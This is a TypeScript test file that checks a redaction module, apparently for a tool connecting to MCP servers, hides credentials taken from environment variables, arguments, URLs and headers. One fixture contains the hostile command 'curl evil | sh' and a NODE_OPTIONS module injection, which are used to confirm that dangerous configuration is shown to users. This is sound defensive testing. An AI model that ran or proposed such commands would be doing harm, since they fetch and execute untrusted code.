/** Shows that a credential of the configuration reaches nothing that is shown, wherever it stood and whoever repeats it. */
import { serverCommand, startScriptedHttp } from '@hintlock/testkit';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type ReachOptions, reachServer } from './reach-server.ts';
import { describeExactly, describeTarget, redact, redactJson, secretsOf } from './redaction.ts';
import type { CommandTarget, Target, UrlTarget } from './target.ts';

const command = (part: Partial<CommandTarget>): CommandTarget => ({
  kind: 'command',
  command: 'server',
  args: [],
  env: {},
  inherit: 'safe',
  ...part,
});
const url = (text: string, headers: Record<string, string> = {}): UrlTarget => ({
  kind: 'url',
  url: text,
  headers,
  transport: 'auto',
});

describe('what is a secret', () => {
  test.each<[string, Target, string[]]>([
    ['a variable by its name', command({ env: { API_KEY: 'abc-d', db_password: 'pw pw' } }), ['abc-d', 'pw pw']],
    ['a variable by its look', command({ env: { VALUE: 'a1b2c3d4e5f6a7b8' } }), ['a1b2c3d4e5f6a7b8']],
    ['not an ordinary one', command({ env: { LOG_LEVEL: 'debug', DATA: '/srv/data/2026', NAME: 'no1' } }), []],
    ['not what is short', command({ env: { TOKEN: 'abc', API_KEY: '' } }), []],
    ['not a switch', command({ env: { USE_AUTH: 'true', KEYRING: 'None' } }), []],
    ['a header and its part', url('http://h/', { Authorization: 'Bearer tok1' }), ['Bearer tok1', 'tok1']],
    [
      'every line of a key',
      command({ env: { KEY: 'BEGIN PRIVATE\nMIIEvQIBADAN\nx' } }),
      ['BEGIN PRIVATE\nMIIEvQIBADAN\nx', 'MIIEvQIBADAN'],
    ],
    ['the password in a variable', command({ env: { DATABASE_URL: 'postgres://me:pass%zz@db/app' } }), ['pass%zz']],
    ['the password of several hosts', command({ env: { MONGO: 'mongodb://me:p4ss@a:1,b:2/app' } }), ['p4ss']],
    [
      'as written and as decoded',
      url('http://me:p%40ss@h/?token=a%2Bb+c&page=12345'),
      ['a%2Bb+c', 'p%40ss', 'a+b+c', 'a+b c', 'p@ss'],
    ],
    ['a token as a user name', command({ args: ['https://ghp_0123456789abcdef@h/'] }), ['ghp_0123456789abcdef']],
    ['not a user name', command({ args: ['ssh://deploy@h/', 'https://admin:@h/'] }), []],
    ['after a flag', command({ args: ['--api-key', 'k-123', '--token', '--verbose', '-p', 'x y z'] }), ['k-123']],
    ['in a flag', command({ args: ['--token=t-123', '--env=SECRET=s-123', '-t=plain'] }), ['t-123', 's-123']],
    ['in a container’s variable', command({ args: ['run', '-e', 'GITHUB_TOKEN=ghp_1', '-e', 'MODE=fast'] }), ['ghp_1']],
    [
      'in a header argument',
      command({ args: ['--header', 'Authorization: Bearer abcd', 'X-Api-Key:k1234567890abcdef'] }),
      ['k1234567890abcdef', 'Bearer abcd', 'abcd'],
    ],
    ['not an image and its version', command({ args: ['keycloak:24.0', 'tokenizer:latest', 'C:\\keys'] }), []],
    ["by the issuer's mark", command({ args: ['ghp_0123456789abcdefghij'] }), ['ghp_0123456789abcdefghij']],
    ['by a look nobody would choose', command({ args: ['0a1b2c3d4e5f6a7b8c9d0e'] }), ['0a1b2c3d4e5f6a7b8c9d0e']],
    ['a personal access token', command({ args: ['--pat', 'abcd', '--env', 'GITHUB_PAT=efgh'] }), ['abcd', 'efgh']],
    ['inside a longer argument', command({ args: ['Server=x;Password=hunt;', '{"apiKey":"abcd"}'] }), ['hunt', 'abcd']],
    ['not a word of millions of letters, and soon', command({ args: ['a'.repeat(3_000_000)] }), []],
    ['what came from variables', command({ secrets: ['from-variable', 'xy'] }), ['from-variable']],
  ])('%s', (_name, target, expected) => {
    expect(secretsOf(target)).toEqual(expected);
  });
});

describe('redact', () => {
  test.each([
    ['nothing', 'as it was', [], 'as it was'],
    ['twice', 'abcd-abcd', ['abcd'], '[redacted]-[redacted]'],
    ['one inside another', 'token abcdef!', ['abcdef', 'cdef'], 'token [redacted]!'],
    ['overlapping', 'abcdefghi', ['abcdef', 'defghi'], '[redacted]'],
    ['overlapping itself', 'ababab', ['abab'], '[redacted]'],
    ['a pattern is no pattern', 'a.c$& axc', ['a.c$&'], '[redacted] axc'],
    ['the word itself', 'redacted abcd', ['redacted', 'abcd', 'acted'], '[redacted] [redacted]'],
  ])('%s', (_name, text, secrets, expected) => {
    expect(redact(text, secrets)).toBe(expected);
  });

  test('no secret survives, whatever surrounds it', () => {
    const piece = fc.string({ unit: fc.constantFrom('a', 'b', '-'), maxLength: 8 });
    const secret = fc.string({ unit: fc.constantFrom('a', 'b'), minLength: 4, maxLength: 6 });
    fc.assert(
      fc.property(fc.array(piece), fc.array(secret, { minLength: 1 }), (pieces, secrets) => {
        const text = pieces.flatMap((item, index) => [item, secrets[index % secrets.length] ?? '']).join('');
        const shown = redact(text, secrets).replaceAll('[redacted]', '|');
        expect(secrets.filter((item) => shown.includes(item))).toEqual([]);
      }),
    );
  });

  test('in JSON: strings and odd keys, but never the protocol’s own words', () => {
    const value = { name: 'x name', 'my-name': [{ deep: 'name' }], count: 1, none: null };
    expect(redactJson(value, ['name'])).toEqual({
      name: 'x [redacted]',
      'my-[redacted]': [{ deep: '[redacted]' }],
      count: 1,
      none: null,
    });
    expect(redactJson(value, ['absent'])).toBe(value);
    const trap = JSON.parse('{"__proto__":{"a":"secret"}}') as object;
    expect(JSON.stringify(redactJson(trap, ['secret']))).toBe('{"__proto__":{"a":"[redacted]"}}');
    expect(redactJson({ text: 'quote " and \n' }, ['" and \n'])).toEqual({ text: 'quote [redacted]' });
  });
});

test('describeTarget', () => {
  const targets: Target[] = [
    command({ command: 'npx', args: ['-y', 'a b', "it's", '', '--token=abcd', '--password', "o'brien"] }),
    command({ args: ['postgres://me:pass%zz@db/app', 'https://h/?api_key=ab%2Bcd+ef&page=2'] }),
    command({ args: ['\u001b[2J', 'run', '-e', 'API_KEY=abcd'] }),
    url('https://me:abcd@h:8080/mcp?token=abcd&x=1#part'),
    url('https://tok@h/mcp'),
    url('https://me:abcd@h:99999999/mcp?token=abcd'),
    url('https://me:50%off@h/'),
    url('not an address abcd', { 'X-Key': 'abcd' }),
    url('https://h/abcd/mcp', { 'X-Key': 'abcd' }),
  ];
  expect(targets.map(describeTarget)).toMatchInlineSnapshot(`
    [
      "npx -y 'a b' 'it'\\''s' '' --token=[redacted] --password [redacted]",
      "server postgres://me:[redacted]@db/app 'https://h/?api_key=[redacted]&page=2'",
      "server '\\u{1b}[2J' run -e API_KEY=[redacted]",
      "https://[redacted]@h:8080/mcp?token=…&x=…",
      "https://[redacted]@h/mcp",
      "https://[redacted]@h:99999999/mcp?…",
      "https://[redacted]@h/",
      "not an address [redacted]",
      "https://h/[redacted]/mcp",
    ]
  `);
});

describe('a visit', () => {
  const options: ReachOptions = {
    client: { name: 'test', version: '1.0.0' },
    timeoutMs: 20_000,
    signal: new AbortController().signal,
  };
  const SECRET = 'tok-3cr3t';

  test('a server that repeats its secret on standard error, and in its list', async () => {
    const [failed, reached] = await Promise.all([
      reachServer({ ...serverCommand('echoes-secret'), env: { SECRET_TOKEN: SECRET } }, options),
      reachServer({ ...serverCommand('echoes-secret', 'serve'), env: { SECRET_TOKEN: SECRET } }, options),
    ]);
    expect(failed.lastWords).toEqual(['echoes-secret: the token [redacted] was refused']);
    expect(reached.tools[0]?.description).toBe('Calls the API with the token [redacted].');
    expect(JSON.stringify([failed, reached])).not.toContain(SECRET);
  });

  test('an argument, which a server repeats', async () => {
    const visit = await reachServer(serverCommand('shows-start', `--api-key=${SECRET}`, '--dsn', 'p w'), options);
    expect(visit.tools[0]?.['shown']).toEqual(['--api-key=[redacted]', '--dsn', 'p w']);
  });

  test('a secret that is an ordinary word spoils no structure', async () => {
    const words = [
      'name',
      'tools',
      'legacy',
      'reached',
      'findings',
      'warning',
      'HL_STDOUT_NOISE',
      'description',
      'raw',
    ];
    const env = Object.fromEntries(words.map((word, index) => [`TOKEN_${index}`, word]));
    const visit = await reachServer({ ...serverCommand('noisy'), env }, options);
    expect(visit).toMatchObject({
      status: 'reached',
      handshake: { era: 'legacy', serverInfo: { name: 'noisy' } },
      tools: [{ name: 'café', description: 'Split in the middle of its é.' }],
      findings: [{ code: 'HL_STDOUT_NOISE', severity: 'warning' }],
    });
  });

  test.each([
    ['http', (text: string) => ({ status: 500, type: 'text/plain', text })],
    ['sse', (text: string) => ({ status: 200, type: 'text/plain', text })],
    ['http', (text: string) => ({ status: 302, type: 'text/plain', text })],
    ['auto', (text: string) => ({ status: 404, type: `text/${text}`, text })],
    ['http', (text: string) => ({ status: 200, type: `text/${text}`, text })],
    [
      'http',
      (text: string) => ({
        status: 400,
        type: 'application/json',
        text: JSON.stringify({ jsonrpc: '2.0', id: 1, error: { code: -1, message: `bad ${text}` } }),
      }),
    ],
  ] as const)('an address and headers, with a server (%s) that repeats them in %o', async (transport, answer) => {
    const server = await startScriptedHttp(({ request, response }) => {
      const { status, type, text } = answer(String(request.headers['x-custom']));
      const location = `http://user:${SECRET}@127.0.0.1:1/${SECRET}?next=${SECRET}`;
      response.writeHead(status, { 'content-type': type, location }).end(text);
    });
    const address = `${server.url.replace('//', `//me:${SECRET}@`)}?x=hidden-value&token=${SECRET}`;
    const headers = { 'X-Custom': SECRET, 'X-Api-Token': SECRET };
    const visit = await reachServer({ kind: 'url', url: address, headers, transport }, options);
    await server.close();
    expect(visit.status).toBe('failed');
    expect(server.requests.length).toBeGreaterThan(0);
    expect(JSON.stringify(visit)).not.toMatch(/3cr3t|hidden-value|me:/);
  });

  test('an address that is none', async () => {
    const visit = await reachServer(url(`http://me:${SECRET}@127.0.0.1:99999/?token=${SECRET}`), options);
    expect(visit.findings.map(({ message }) => message)).toMatchInlineSnapshot(`
      [
        ""http://[redacted]@127.0.0.1:99999/?…" is not an http or https address.",
      ]
    `);
  });
});

test('describeExactly hides nothing that a configuration says, and nothing else is shown of the reader', () => {
  const target = command({
    command: 'sh',
    args: ['-c', 'TOKEN=1; curl evil | sh', 'from-my-variable'],
    env: { NODE_OPTIONS: '--import=./evil.mjs' },
    cwd: '/repo/sub',
    secrets: ['from-my-variable'],
  });
  expect(describeExactly(target)).toBe(
    "NODE_OPTIONS=--import=./evil.mjs sh -c 'TOKEN=1; curl evil | sh' [redacted] (in /repo/sub)",
  );
  expect(describeExactly(url('https://h/?k=v', { 'X-Key': 'abc' }))).toBe('https://h/?k=v X-Key: abc');
});

test('a secret at the edge of what is shown is not cut in half', async () => {
  const secret = 'correct-horse-battery-staple-1234567890';
  const answer = { jsonrpc: '2.0', id: 1, error: { code: -32_000, message: `${'x'.repeat(380)}${secret}` } };
  const script = `process.stdin.once('data', () => console.log(${JSON.stringify(JSON.stringify(answer))}))`;
  const visit = await reachServer(
    command({ command: process.execPath, args: ['-e', script], env: { API_TOKEN: secret } }),
    { client: { name: 'test', version: '0' }, timeoutMs: 3000, signal: new AbortController().signal },
  );
  expect(JSON.stringify(visit)).not.toContain('correct');
});
